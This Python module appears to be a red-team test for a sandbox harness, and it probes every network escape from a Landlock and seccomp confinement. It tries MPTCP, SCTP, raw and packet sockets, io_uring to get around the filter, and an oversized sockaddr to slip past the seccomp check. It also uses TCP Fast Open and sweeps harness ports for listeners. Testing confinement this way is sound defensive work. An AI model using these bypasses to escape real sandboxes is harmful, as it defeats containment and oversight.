"""Red team, class 2: the network around Landlock and the seccomp filter.

From `serve` (a thread, at its first start in each stack) it tries every way out of "RELAY_PORT in, the account
proxy out": MPTCP and SCTP sockets (Landlock's TCP rules do not cover them), UDP and raw and packet and netlink
sockets, io_uring (sockets the filter cannot see), connect() to other ports (also with a sockaddr length the
seccomp listener does not look at), TCP Fast Open (sendto(MSG_FASTOPEN) connects without connect()), IPv6,
bind() and listen() on ports other than RELAY_PORT. Each way that opens a connection sweeps the harness's port
range on the harness's end of the veth pair for listeners: the account system's own ports, Toxiproxy's API,
other stacks' proxies and whatever else listens on the machine's wildcard address (the test starts such a
listener, which answers CANARY_BANNER).
"""

import errno
import os
import select
import socket
import sys
import time

from .evidence import (
    CANARY_BANNER,
    HOST_RANGE,
    Attack,
    Refused,
    account_host,
    account_port,
    first_time,
    is_serve,
    syscall,
    whoami,
)
from .reference.__main__ import main

NAME = "net_escape"
ATTEMPTS = (
    "mptcp",
    "sctp",
    "udp",
    "raw",
    "packet",
    "netlink",
    "io_uring",
    "connect-other-port",
    "connect-odd-addrlen",
    "tcp-fast-open",
    "ipv6",
    "bind-other-port",
    "listen-other-port",
)
LIMITS = {"ready_timeout_s": 30}  # its attack runs before serve answers
A = Attack(NAME)
IPPROTO_MPTCP, IPPROTO_SCTP, MSG_FASTOPEN = 262, 132, 0x20000000
SYS_IO_URING_SETUP = 425


def sweep(make, label: str, ports=range(HOST_RANGE[0], HOST_RANGE[1] + 1), batch: int = 1500) -> list[str]:
    """Open `make()` sockets to every port of the range on the harness's end, non-blocking; what answered."""
    host, own = account_host(), account_port()
    opened: list[str] = []
    todo = [p for p in ports if p != own]
    for i in range(0, len(todo), batch):
        pending: dict[int, tuple[socket.socket, int]] = {}
        poller = select.poll()
        for port in todo[i : i + batch]:
            s = make()
            s.setblocking(False)
            try:
                label_connect(s, host, port, label)
            except BlockingIOError:
                pass
            except OSError as e:
                s.close()
                if e.errno in (errno.EACCES, errno.EPERM):
                    raise
                continue
            pending[s.fileno()] = (s, port)
            poller.register(s, select.POLLOUT | select.POLLERR | select.POLLHUP)
        deadline = time.monotonic() + 2.0
        while pending and time.monotonic() < deadline:
            for fd, _ in poller.poll(200):
                s, port = pending.pop(fd)
                poller.unregister(fd)
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                    opened.append(f"{host}:{port} ({banner(s)})")
                s.close()
        for s, _ in pending.values():
            s.close()
    return opened


def label_connect(s: socket.socket, host: str, port: int, how: str) -> None:
    if how == "fastopen":
        s.sendto(b"", MSG_FASTOPEN, (host, port))
    else:
        s.connect((host, port))


def banner(s: socket.socket) -> str:
    """What a listener says first, or answers to a GET /proxies (Toxiproxy's API)."""
    s.setblocking(True)
    s.settimeout(0.5)
    try:
        got = s.recv(200)
        if not got:
            s.sendall(b"GET /proxies HTTP/1.0\r\n\r\n")
            got = s.recv(300)
    except OSError:
        try:
            s.sendall(b"GET /proxies HTTP/1.0\r\n\r\n")
            got = s.recv(300)
        except OSError as e:
            got = f"<{e.strerror}>".encode()
    text = got.decode(errors="replace").replace("\r", " ").replace("\n", " ")[:120]
    return ("CANARY " if CANARY_BANNER in got else "") + text


def through(family: int, kind: int, proto: int, how: str = "connect"):
    """A socket of this kind, then a sweep of the harness's ports with it."""

    def make() -> socket.socket:
        return socket.socket(family, kind, proto)

    make().close()  # refused here, if anywhere
    found = sweep(make, how)
    if found:
        return f"{len(found)} listener(s) reached: {', '.join(found[:6])}"
    raise Refused(f"socket made, but nothing answered on {account_host()} ports {HOST_RANGE[0]}-{HOST_RANGE[1]}")


def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sent = 0
    for port in range(HOST_RANGE[0], HOST_RANGE[0] + 200):
        sent += s.sendto(b"red team", (account_host(), port)) > 0
    return f"sent {sent} datagrams to {account_host()}"


def raw():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
    return "raw ICMP socket"


def packet():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300).close()
    return "AF_PACKET socket"


def netlink():
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    s.close()
    return "netlink route socket"


def io_uring():
    params = bytearray(120)
    fd = syscall(SYS_IO_URING_SETUP, 4, (ctypes_buffer(params)))
    os.close(fd)
    return f"io_uring instance fd {fd} (sockets made through it bypass the filter)"


def ctypes_buffer(data: bytearray):
    import ctypes

    return ctypes.addressof((ctypes.c_char * len(data)).from_buffer(data))


def connect_other():
    s = socket.socket()
    s.settimeout(2)
    try:
        s.connect((account_host(), account_port() + 1 if account_port() < HOST_RANGE[1] else account_port() - 1))
    except ConnectionRefusedError:
        return "a connect to another port of the harness went out (refused by the far end, not the sandbox)"
    finally:
        s.close()
    return "connected to another port of the harness"


def connect_odd_addrlen():
    """connect() with a sockaddr_in 4 bytes longer than usual: the seccomp listener looks only at 16 or 28."""
    import ctypes
    import struct

    s = socket.socket()
    addr = struct.pack("=H", socket.AF_INET) + struct.pack("!H", 22) + socket.inet_aton(account_host()) + bytes(12)
    buf = ctypes.create_string_buffer(addr, len(addr))
    try:
        syscall(42, s.fileno(), ctypes.addressof(buf), len(addr))  # connect
    except ConnectionRefusedError:
        return "connect to :22 with a 20-byte address went out (refused by the far end, not the sandbox)"
    finally:
        s.close()
    return f"connected to {account_host()}:22"


def ipv6():
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    s.settimeout(2)
    targets = [("::1", account_port()), ("fe80::1%" + iface(), account_port())]
    errors = []
    for target in targets:
        try:
            s.connect(target)
            return f"connected to [{target[0]}]:{target[1]}"
        except OSError as e:
            errors.append(f"[{target[0]}]: {errno.errorcode.get(e.errno, e.errno)}")
    s.close()
    raise Refused("; ".join(errors))


def iface() -> str:
    return next((n for n in os.listdir("/sys/class/net") if n != "lo"), "lo")


def bind_other():
    port = int(os.environ["RELAY_PORT"]) + 1
    s = socket.socket()
    s.bind(("127.0.0.1", port))
    s.listen(1)
    return f"listening on 127.0.0.1:{port}, not RELAY_PORT"


def listen_other():
    s = socket.socket()
    s.listen(1)  # never bound: the kernel picks the port
    host, port = s.getsockname()
    keep.append(s)
    if port != int(os.environ["RELAY_PORT"]):
        return f"listening on {host}:{port} (listen() without bind(): the kernel chose the port), not RELAY_PORT"
    raise Refused("the port chosen was RELAY_PORT")


keep: list[socket.socket] = []


def attack() -> None:
    A.run("mptcp", through, socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP)
    A.run("sctp", through, socket.AF_INET, socket.SOCK_STREAM, IPPROTO_SCTP)
    A.run("udp", udp)
    A.run("raw", raw)
    A.run("packet", packet)
    A.run("netlink", netlink)
    A.run("io_uring", io_uring)
    A.run("connect-other-port", connect_other)
    A.run("connect-odd-addrlen", connect_odd_addrlen)
    A.run("tcp-fast-open", through, socket.AF_INET, socket.SOCK_STREAM, 0, "fastopen")
    A.run("ipv6", ipv6)
    A.run("bind-other-port", bind_other)
    A.run("listen-other-port", listen_other)


if __name__ == "__main__":
    whoami(NAME, sys.argv[1])
    if is_serve(sys.argv[1:]) and first_time(NAME):
        attack()  # before serve answers: the scenario waits for it
    sys.exit(main(sys.argv[1:]))
